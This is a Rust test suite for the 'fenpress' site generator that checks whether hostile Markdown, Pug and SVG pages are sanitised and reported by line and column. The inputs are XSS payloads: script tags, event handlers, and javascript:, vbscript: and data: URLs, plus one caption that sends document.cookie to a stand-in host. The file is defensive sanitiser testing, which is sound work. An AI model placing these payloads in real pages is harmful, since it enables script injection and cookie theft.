//! Safe output by construction: a site whose Markdown and Pug pages are full
//! of script, event handlers and `javascript:`/`vbscript:`/`data:` URLs
//! builds into an output with none of them, and `check` reports each one at
//! its line and column (`unsafe-html`, `unsafe-url`).

use std::path::Path;

use fenpress::site::{build, check_site, BuildOptions};

/// Every payload names `PWNED`, so any of them that survived is found in
/// the output whatever shape it took. (Pug's `script.` block is kept as
/// escaped text by the converter, hence its inert payload; it is still
/// reported.)
const MARKDOWN: &str = r#"# Hostile

<script>alert("PWNED")</script>

<img src="x.png" onerror="alert('PWNED')">

[click](javascript:alert('PWNED'))

<a href="vbscript:msgbox('PWNED')">vb</a>

![pic](data:image/svg+xml;base64,PWNED)

<div onmouseover="PWNED()">hover</div> <SCRIPT src="//evil/PWNED.js"></SCRIPT>

<iframe src="javascript:PWNED()"></iframe>
"#;

const PUG: &str = r#"p
  | Hostile pug
  a(href="javascript:alert('PWNED')") link
  a(href="vbscript:PWNED" onclick="PWNED()") vb
  img(src="data:text/html,PWNED" onload="PWNED()")
script.
  alert("inert")
"#;

fn site(root: &Path) -> std::path::PathBuf {
    let content = root.join("content");
    std::fs::create_dir_all(content.join("pages/hostile")).unwrap();
    std::fs::create_dir_all(content.join("pages/pughostile")).unwrap();
    std::fs::write(content.join("pages/hostile/en.md"), MARKDOWN).unwrap();
    std::fs::write(content.join("pages/pughostile/en.pug"), PUG).unwrap();
    content
}

/// Lowercased HTML of every output file, by path.
/// The text files a browser reads as markup, script or style (not PNGs or
/// Pagefind's compressed index: their bytes can spell anything, and the scan
/// failed once in a parallel run while passing alone).
const SCANNED: &[&str] = &[
    "html", "htm", "js", "mjs", "css", "svg", "xml", "json", "txt",
];

fn outputs(out: &Path) -> Vec<(String, String)> {
    walkdir::WalkDir::new(out)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .filter(|e| {
            e.path()
                .extension()
                .and_then(|x| x.to_str())
                .is_some_and(|x| SCANNED.contains(&x))
        })
        .filter_map(|e| {
            let text = std::fs::read(e.path()).ok()?;
            Some((
                e.path().display().to_string(),
                String::from_utf8_lossy(&text).to_ascii_lowercase(),
            ))
        })
        .collect()
}

#[test]
fn no_script_handler_or_unsafe_url_reaches_the_output() {
    let dir = tempfile::tempdir().unwrap();
    let content = site(dir.path());
    let out = dir.path().join("public");
    let report = build(&BuildOptions {
        content: content.clone(),
        out: out.clone(),
        strict: false,
    })
    .expect("the hostile site builds");
    assert!(report.written);
    let files = outputs(&out);
    assert!(files
        .iter()
        .any(|(p, t)| p.contains("hostile") && t.contains("hostile")));
    for (path, text) in &files {
        assert!(
            !text.contains("pwned"),
            "{path}: a payload reached the output"
        );
        for scheme in ["javascript:", "vbscript:", "data:text", "data:image/svg"] {
            // As a URL (after a quote, `=` or `(`), not the theme's prose.
            for (i, _) in text.match_indices(scheme) {
                let before = text[..i].trim_end().chars().next_back();
                assert!(
                    !matches!(before, Some('"' | '\'' | '=' | '(')),
                    "{path}: a {scheme} URL: {}",
                    &text[i.saturating_sub(60)..(i + 40).min(text.len())]
                );
            }
        }
        // ` on<name>=` as an attribute: the theme itself writes none.
        let bytes = text.as_bytes();
        for (i, _) in text.match_indices(" on") {
            let name: String = text[i + 3..]
                .chars()
                .take_while(|c| c.is_ascii_lowercase())
                .collect();
            let next = bytes.get(i + 3 + name.len()).copied();
            assert!(
                name.len() < 3 || next != Some(b'='),
                "{path}: an event handler `on{name}=`"
            );
        }
    }
}

#[test]
fn check_reports_each_unsafe_construct_where_it_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let content = site(dir.path());
    let report = check_site(&content).expect("check runs");
    let mut got: Vec<(String, &str, usize, usize)> = report
        .diagnostics
        .iter()
        .filter(|d| d.code.starts_with("unsafe-"))
        .map(|d| {
            let file = d.file.file_name().unwrap().to_string_lossy().to_string();
            let folder = d.file.parent().unwrap().file_name().unwrap();
            (
                format!("{}/{file}", folder.to_string_lossy()),
                d.code,
                d.line,
                d.column,
            )
        })
        .collect();
    got.sort();
    let want = [
        ("hostile/en.md", "unsafe-html", 3, 1),
        ("hostile/en.md", "unsafe-html", 5, 18),
        ("hostile/en.md", "unsafe-html", 13, 6),
        ("hostile/en.md", "unsafe-html", 13, 40),
        ("hostile/en.md", "unsafe-html", 15, 1),
        ("hostile/en.md", "unsafe-url", 7, 9),
        ("hostile/en.md", "unsafe-url", 9, 10),
        ("hostile/en.md", "unsafe-url", 11, 8),
        ("hostile/en.md", "unsafe-url", 15, 14),
        ("pughostile/en.pug", "unsafe-html", 4, 27),
        ("pughostile/en.pug", "unsafe-html", 5, 34),
        ("pughostile/en.pug", "unsafe-html", 6, 1),
        ("pughostile/en.pug", "unsafe-url", 3, 11),
        ("pughostile/en.pug", "unsafe-url", 4, 11),
        ("pughostile/en.pug", "unsafe-url", 5, 12),
    ];
    let want: Vec<(String, &str, usize, usize)> = want
        .iter()
        .map(|(f, c, l, col)| (f.to_string(), *c, *l, *col))
        .collect();
    assert_eq!(got, want);
    assert!(report
        .diagnostics
        .iter()
        .filter(|d| d.code.starts_with("unsafe-"))
        .all(|d| d.severity == fenpress::diagnostic::Severity::Warning));
}

#[test]
fn strict_build_refuses_unsafe_html_and_base_url_must_be_http() {
    let dir = tempfile::tempdir().unwrap();
    let content = site(dir.path());
    let out = dir.path().join("public");
    let strict = build(&BuildOptions {
        content: content.clone(),
        out: out.clone(),
        strict: true,
    });
    assert!(
        !matches!(strict, Ok(ref r) if r.written),
        "--strict wrote a hostile site"
    );

    std::fs::write(
        content.join("config.yaml"),
        "title: T\nbase_url: \"javascript:alert(1)//\"\n",
    )
    .unwrap();
    let err = build(&BuildOptions {
        content,
        out,
        strict: false,
    })
    .expect_err("a javascript: base_url is refused");
    let text = err.to_string();
    assert!(text.contains("base_url") && text.contains("http"), "{text}");
}

/// Diagram captions are placed into the page after its body was
/// sanitised: each is sanitised on its own (issue 41). Markdown block
/// captions and Pug `figcaption`s, each with a payload the page-body scan
/// would have caught had it been in the body.
const CAPTIONS_MD: &str = r#"# Captions

```diagram
fen: 8/8/8/8/8/8/8/K6k
caption: "[Play](javascript&#58;fetch('//x/?c='+document.cookie))"
```

```diagram
fen: 8/8/8/8/8/8/8/K6k
caption: "<iframe srcdoc='<script>alert(1)</script>'></iframe><script>alert(2)</script>"
```

```diagram
fen: 8/8/8/8/8/8/8/K6k
caption: "<img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=//x'><base href='//x/'><form action='//x'></form><object data=x></object><style>*{}</style>[d](data:text/html,x)"
```
"#;

const CAPTIONS_PUG: &str = r#"p Figures
figure.diagram-container
  .diagram
    | fen:8/8/8/8/8/8/8/K6k:
  figcaption
    a(href="javascript:alert(1)") Play
    | and
    a(href="data:text/html,x" onclick="alert(2)") more
"#;

#[test]
fn hostile_captions_never_reach_the_output() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    std::fs::create_dir_all(content.join("pages/captions")).unwrap();
    std::fs::create_dir_all(content.join("pages/pugcaptions")).unwrap();
    std::fs::write(content.join("pages/captions/en.md"), CAPTIONS_MD).unwrap();
    std::fs::write(content.join("pages/pugcaptions/en.pug"), CAPTIONS_PUG).unwrap();
    let out = dir.path().join("public");
    let report = build(&BuildOptions {
        content,
        out: out.clone(),
        strict: false,
    })
    .expect("the site builds");
    assert!(report.written);
    let mut pages = 0;
    for name in ["captions", "pugcaptions"] {
        let html = std::fs::read_to_string(out.join(format!("en/{name}/index.html")))
            .expect("the page is written");
        assert!(html.contains("<figcaption>"), "{name}: {html}");
        let found = fenpress::unsafe_markup::find(&html, &theme_tag);
        let context: Vec<&str> = found
            .iter()
            .map(|f| &html[f.at.saturating_sub(80)..(f.at + 80).min(html.len())])
            .collect();
        assert!(found.is_empty(), "{name}: {found:?} {context:?}");
        assert!(!html.contains("<style>*"), "{name}");
        pages += 1;
    }
    assert_eq!(pages, 2);
}

/// The default theme's own tags that the output scan would otherwise flag:
/// its scripts (files of its own `static/`, JSON data), the empty icon,
/// the search forms, the puzzle widget's form, the root page's redirect.
pub fn theme_tag(tag: &str) -> bool {
    let own_script = tag.starts_with("<script")
        && (tag.contains(" src=\"") && tag.contains("static/") && !tag.contains("://")
            || tag.contains("type=\"application/json\""));
    own_script
        || tag == "<link rel=\"icon\" href=\"data:,\">"
        || tag.starts_with("<form class=\"search-box\" role=\"search\"")
        || tag.starts_with("<form class=\"search-form\" role=\"search\"")
        // The puzzle widget's move box (no action: script reads it).
        || tag == "<form class=\"fp-puzzle-form\">"
        // The root page's redirect to the first language, a path of the site.
        || tag.starts_with("<meta http-equiv=\"refresh\" content=\"0; url=/")
}

/// `check` names each hostile caption at its line: `check --deny
/// warnings` fails on them (they passed with 0 findings).
#[test]
fn check_reports_hostile_captions() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    std::fs::create_dir_all(content.join("pages/captions")).unwrap();
    std::fs::create_dir_all(content.join("pages/pugcaptions")).unwrap();
    std::fs::write(content.join("pages/captions/en.md"), CAPTIONS_MD).unwrap();
    std::fs::write(content.join("pages/pugcaptions/en.pug"), CAPTIONS_PUG).unwrap();
    let report = check_site(&content).expect("check runs");
    let mut lines: Vec<(String, usize)> = report
        .diagnostics
        .iter()
        .filter(|d| d.code.starts_with("unsafe-"))
        .map(|d| {
            let folder = d.file.parent().unwrap().file_name().unwrap();
            (folder.to_string_lossy().into_owned(), d.line)
        })
        .collect();
    lines.dedup();
    assert_eq!(
        lines,
        [
            ("captions".to_string(), 5),
            ("captions".to_string(), 10),
            ("captions".to_string(), 15),
            ("pugcaptions".to_string(), 6),
            ("pugcaptions".to_string(), 8),
        ],
        "{:?}",
        report.diagnostics
    );
}

/// A piece set's SVG is inlined into every page showing the piece: it is
/// rebuilt from an allowlist, and `check` reports what was dropped at its
/// line (issue 41).
#[test]
fn hostile_piece_svgs_are_rebuilt_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    std::fs::create_dir_all(content.join("pages/board")).unwrap();
    std::fs::create_dir_all(content.join("pieces")).unwrap();
    std::fs::write(
        content.join("config.yaml"),
        "title: T\npieces: { folder: pieces, svg: inline }\n",
    )
    .unwrap();
    std::fs::write(
        content.join("pieces/wk.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 45 45\" onload=\"alert(1)\">\n\
         <script>alert(2)</script>\n\
         <a href=\"javascript:alert(3)\"><circle r=\"9\"/></a>\n\
         <image href=\"/etc/hostname\" width=\"45\" height=\"45\"/>\n\
         <path d=\"M0 0h45v45z\" style=\"fill:url(data:image/png;base64,AA)\"/>\n\
         <rect width=\"45\" height=\"45\" fill=\"#123456\"/>\n\
         </svg>\n",
    )
    .unwrap();
    std::fs::write(
        content.join("pages/board/en.md"),
        "# Board\n\n```diagram\nfen: 8/8/8/8/8/8/8/K6k\n```\n",
    )
    .unwrap();
    let report = check_site(&content).expect("check runs");
    let mut got: Vec<(usize, &str)> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "unsafe-svg")
        .map(|d| (d.line, d.code))
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            (1, "unsafe-svg"),
            (2, "unsafe-svg"),
            (3, "unsafe-svg"),
            (4, "unsafe-svg"),
            (5, "unsafe-svg")
        ],
        "{:?}",
        report.diagnostics
    );
    let out = dir.path().join("public");
    build(&BuildOptions {
        content,
        out: out.clone(),
        strict: false,
    })
    .expect("the site builds");
    let html = std::fs::read_to_string(out.join("en/board/index.html")).unwrap();
    assert!(html.contains("#123456"), "the piece's drawing is kept");
    let found = fenpress::unsafe_markup::find(&html, &theme_tag);
    assert!(found.is_empty(), "{found:?}");
    assert!(!html.contains("/etc/hostname"));
}

/// A committed `config.yaml` or `variants/*.yaml` that is a symlink (to a
/// secrets file, `/dev/zero`, a FIFO) is refused unread: its first line
/// never reaches a finding or an excerpt (issue 41).
#[cfg(unix)]
#[test]
fn symlinked_config_and_definitions_are_refused_unread() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    std::fs::create_dir_all(content.join("pages/a")).unwrap();
    std::fs::create_dir_all(content.join("variants")).unwrap();
    std::fs::write(content.join("pages/a/en.md"), "# A\n").unwrap();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "TOKEN-PWNED: hunter2\n").unwrap();
    std::os::unix::fs::symlink(&secret, content.join("config.yaml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", content.join("variants/Zero.yaml")).unwrap();
    let report = check_site(&content).expect("check runs");
    let config = report
        .diagnostics
        .iter()
        .find(|d| d.code == "config")
        .expect("a config finding");
    assert!(
        config.message.contains("symbolic link"),
        "{}",
        config.message
    );
    let variant = report
        .diagnostics
        .iter()
        .find(|d| d.code == "variant-definition")
        .expect("a definition finding");
    assert!(
        variant.message.contains("symbolic link"),
        "{}",
        variant.message
    );
    let printed = format!("{:?}{:?}", report.diagnostics, report.sources);
    assert!(!printed.contains("hunter2"), "{printed}");
    let err = build(&BuildOptions {
        content,
        out: dir.path().join("public"),
        strict: false,
    })
    .expect_err("build refuses the config");
    assert!(err.to_string().contains("symbolic link"), "{err}");
    assert!(!err.to_string().contains("hunter2"));
}

/// `rules/Foo` and `rules/foo` are one folder on macOS and Windows: an
/// error, the first kept. A name that is not a URL path as written (`#`,
/// `%`, a space) is refused as other unsafe names are (issue 41).
#[test]
fn case_colliding_and_unencodable_names_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    for folder in [
        "rules/Foo",
        "rules/foo",
        "pages/a#b",
        "pages/Ev il",
        "pages/ok",
    ] {
        std::fs::create_dir_all(content.join(folder)).unwrap();
        std::fs::write(content.join(folder).join("en.md"), "# T\n").unwrap();
    }
    let report = check_site(&content).expect("check runs");
    let mut bad: Vec<String> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "bad-name")
        .map(|d| {
            let folder = d.file.parent().unwrap();
            let section = folder.parent().unwrap().file_name().unwrap();
            format!(
                "{}/{}",
                section.to_string_lossy(),
                folder.file_name().unwrap().to_string_lossy()
            )
        })
        .collect();
    bad.sort();
    assert_eq!(
        bad,
        ["pages/Ev il", "pages/a#b", "rules/foo"],
        "{:?}",
        report.diagnostics
    );
    assert!(report
        .diagnostics
        .iter()
        .all(|d| d.code != "bad-name" || d.severity == fenpress::diagnostic::Severity::Error));
}

/// A page folder whose name is allowed but is not a URL as written
/// (`Échecs+x'`) is linked, listed in the sitemap and indexed
/// percent-encoded; a folder whose name is not UTF-8 cannot be written in
/// a URL at all and is an error, where it was skipped unsaid (issue 41).
#[cfg(unix)]
#[test]
fn page_urls_are_percent_encoded_and_unencodable_names_are_errors() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    let odd = content.join("pages/Échecs+x'");
    std::fs::create_dir_all(&odd).unwrap();
    std::fs::write(odd.join("en.md"), "# Odd\n\nText.\n").unwrap();
    let encoded = "en/%C3%89checs%2Bx%27/";

    let bad = content
        .join("pages")
        .join(std::ffi::OsStr::from_bytes(b"bad\xff"));
    std::fs::create_dir_all(&bad).unwrap();
    std::fs::write(bad.join("en.md"), "# Bad\n").unwrap();
    let report = check_site(&content).expect("check runs");
    let bad_names: Vec<_> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "bad-name")
        .collect();
    assert_eq!(bad_names.len(), 1, "{:?}", report.diagnostics);
    assert!(bad_names[0].message.contains("UTF-8"), "{:?}", bad_names[0]);
    std::fs::remove_dir_all(&bad).unwrap();

    let out = dir.path().join("public");
    build(&BuildOptions {
        content,
        out: out.clone(),
        strict: false,
    })
    .expect("builds");
    assert!(out.join("en/Échecs+x'/index.html").is_file());
    let sitemap = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
    assert!(sitemap.contains(encoded), "{sitemap}");
    assert!(!sitemap.contains("Échecs"), "{sitemap}");
    let page = std::fs::read_to_string(out.join("en/Échecs+x'/index.html")).unwrap();
    assert!(page.contains(encoded), "the canonical link is encoded");
    assert!(
        !page.contains("/Échecs"),
        "no link names the folder as written"
    );
}
